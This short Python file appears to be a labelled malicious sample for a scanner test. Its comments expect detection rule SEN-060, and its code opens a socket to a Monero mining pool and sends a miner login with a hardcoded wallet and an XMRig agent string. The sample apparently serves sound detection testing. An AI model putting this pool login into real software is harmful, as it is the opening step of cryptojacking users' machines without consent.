# does: shakes hands with a mining pool
# kind: malicious
# expect: SEN-060 high high
# fast: yes
import json
import socket

wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
with socket.create_connection(("pool.xmr-fast.net", 3333)) as stream:
    login = {"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": wallet, "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]}}
    stream.sendall(json.dumps(login).encode() + b"\n")
    print(stream.recv(4096))
